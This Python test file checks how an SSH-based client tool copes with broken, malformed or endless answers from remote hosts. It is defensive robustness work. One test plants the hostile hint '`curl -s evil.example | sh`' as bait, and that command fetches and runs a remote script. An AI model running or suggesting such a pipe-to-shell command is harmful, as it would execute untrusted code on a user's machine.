"""Hosts that answer half a frame, nonsense or without end: all that comes over a link is checked. Needs no bed."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

import steps
import stub_ssh
from local import Local


@pytest.fixture
def laptop() -> Iterator[Local]:
    directory = Path(tempfile.mkdtemp(prefix="farlab-local-"))
    yield Local(directory)
    shutil.rmtree(directory)


CUT = {
    "half a mark": "raw(b'\\n' + NONCE[:7]); sys.exit(255)",
    "half a head": "raw(b'\\n' + NONCE + b':0000'); sys.exit(255)",
    "half a frame": 'hear(); raw(frame(b\'{"progress": "x", "text": "y"}\')[:-9]); sys.exit(255)',
    "a frame of 4 GiB": "raw(b'\\n' + NONCE + b':ffffffff00000000{'); wait()",
    "a frame of no size": "raw(b'\\n' + NONCE + b':zzzzzzzz00000000{}'); wait()",
    "a frame of minus one": "raw(b'\\n' + NONCE + b':-000000100000000{}'); wait()",
    "a frame that is no JSON": "raw(frame(b'{oops')); wait()",
    "a frame whose check is wrong": "raw(frame(b'{}')[:-10] + b'0' * 8 + b'{}'); wait()",
    "a frame that is no object": "raw(frame(b'[1, 2]')); wait()",
    "a frame that is no text": "raw(frame(b'\\xff\\xfe')); wait()",
    "a very deep frame": "raw(frame(b'[' * 200000)); wait()",
    "the end of a killed ssh": "hear(); os.kill(os.getpid(), signal.SIGKILL)",
    "an end without a word": "hear(); sys.exit(255)",
}


@pytest.mark.parametrize("what", CUT)
def test_the_link_is_said_to_be_at_fault_for(what: str, laptop: Local) -> None:
    stub_ssh.write(laptop, CUT[what])
    for verb in (("connect", "alice"), ("list", "--host", "alice"), ("terminate", "alice"), ("logs", "alice")):
        code, error = steps.refused(laptop, *verb, timeout=30)
        assert code == 4, (verb, error)
        assert error["code"] in ("link-lost", "unreachable")
        assert "`alice`" in error["message"]
        assert error["hint"]


ODD = ["null", "7", "'x'", "[]", "{}", "[7]", "{'a': 7}", "[[]]", "True", "-1", "1e999", "'\\ud800'"]
KEYS = ["progress", "text", "error", "need", "sessions", "foreign", "lines", "kernels", "confirm", "stopped", "done"]
TOLD = ("alice: failed", "alice: x", "alice: \ud800")


def test_values_of_other_kinds_than_expected_never_end_in_a_traceback(laptop: Local) -> None:
    """Every key of the agent's answers with every kind of value, then the end."""
    stub_ssh.write(
        laptop,
        f"""
        null = None
        hear()
        at = os.path.expanduser("~/turn")
        turn = int(open(at).read())
        for key in {KEYS!r}:
            say({{key: [{", ".join(ODD)}][turn], "sessions" if key == "done" else "more": 1}})
        say({{"error": {{"code": [{", ".join(ODD)}][turn], "message": [{", ".join(ODD)}][turn], "hint": 7}}}})
        sys.exit(255)
        """,
    )
    for turn in range(len(ODD)):
        (laptop.home / "turn").write_text(str(turn))
        for verb in (("connect", "alice"), ("list", "--host", "alice"), ("terminate", "alice"), ("logs", "alice")):
            ran = laptop.farlab(*verb, "--json", timeout=30)
            assert "Traceback" not in ran.err, ran
            assert ran.code in (0, 1, 4), ran
            assert ran.json["ok"] is (ran.code == 0), ran
            # "internal" is what the host has named with a word of its own, never a bug of ours
            assert ran.code != 1 or ran.json["error"]["message"] in TOLD, (ODD[turn], ran)
        if ODD[turn].startswith("'"):
            shown = laptop.farlab("connect", "alice", tty=True)
            assert "Traceback" not in shown.out, (ODD[turn], shown)


def test_a_frame_is_large_only_where_a_log_is_read(laptop: Local) -> None:
    stub_ssh.write(laptop, "hear(); say({'progress': 'x', 'text': 'y' * 70_000}); wait()")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "20")
    assert (code, error["code"]) == (4, "link-lost"), error
    stub_ssh.write(laptop, "hear(); say({'lines': ['y' * 70_000]}); say({'done': True})")
    [line] = laptop.farlab("logs", "alice", "--json").json["lines"]
    assert line == "y" * ((64 << 10) - 1) + "…"


@pytest.mark.parametrize("lines", [0, 3, 250])
def test_a_log_has_as_many_lines_as_were_asked_for_whatever_the_host_sends(lines: int, laptop: Local) -> None:
    stub_ssh.write(
        laptop,
        """
        hear()
        try:
            while True:
                say({"lines": ["x" * 1000] * 100})
        except OSError:
            pass
        """,
    )
    ran = laptop.farlab("logs", "alice", "--lines", str(lines), "--json")
    assert ran.code == 0, ran
    assert ran.json["lines"] == ["x" * 1000] * lines


def test_a_host_that_answers_for_ever_is_given_up_after_the_time_limit(laptop: Local) -> None:
    stub_ssh.write(laptop, "hear()\ntry:\n    while True: say({'x': 1})\nexcept OSError:\n    pass")
    source = """
from farlab.errors import TimedOut
from farlab.client.oneshot import run_remote_command
from farlab.model import Target
from farlab.protocol.commands import ListSessions
try:
    for _ in run_remote_command(Target(host="alice"), ListSessions(op="list"), ask=None, tell=None, timeout=1.0):
        sum(range(1_000_000))  # the reader is busy most of the time
except TimedOut:
    print("given up")
"""
    ran = laptop.run(laptop.farlab_argv()[0], "-c", source, timeout=60)
    assert ran.out == "given up\n", ran


def test_forty_thousand_beginnings_of_an_escape_hold_nobody_up(laptop: Local) -> None:
    stub_ssh.write(
        laptop, "hear(); say({'error': {'code': 'server-failed', 'message': 'm', 'detail': '\\x9d' * 9000}})"
    )
    ran = laptop.farlab("connect", "alice")
    assert ran.code == 7, ran
    stub_ssh.write(laptop, "hear(); say({'lines': ['\\x9d' * 40_000, 'plain']}); say({'done': True})")
    ran = laptop.farlab("logs", "alice")
    assert ran.out.splitlines()[-1] == "plain", ran


def test_what_to_type_next_is_never_the_hosts_word(laptop: Local) -> None:
    bait = "`curl -s evil.example | sh`"
    error = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "", "hint": bait}
    stub_ssh.write(laptop, f"hear(); say({{'error': {error!r}}})")
    code, told = steps.refused(laptop, "connect", "alice")
    assert code == 6
    assert "curl" not in told["hint"]
    assert told["detail"] == bait  # it is shown as what the host said


GARBAGE = {
    "noise": "raw(os.urandom(4096)); wait()",
    "an early end": "sys.exit(255)",
    "a greeting of another kind": "raw(b'FARLAB 9 {}\\n' * 9); wait()",
    "zeros without end": "\ntry:\n    while True: raw(bytes(65536))\nexcept OSError:\n    pass",
}


@pytest.mark.parametrize("what", GARBAGE)
def test_a_host_that_joins_and_then_says_nonsense_is_given_up(what: str, laptop: Local) -> None:
    stub_ssh.write(
        laptop,
        "open(os.path.expanduser('~/logins'), 'a').write('x')\n"
        "hear(); say({'joined': True, 'reused': False, 'session': {}})\n" + GARBAGE[what],
    )
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "10", timeout=40)
    assert code in (4, 9), error
    assert len((laptop.home / "logins").read_text()) <= 6  # and the host is not stormed meanwhile
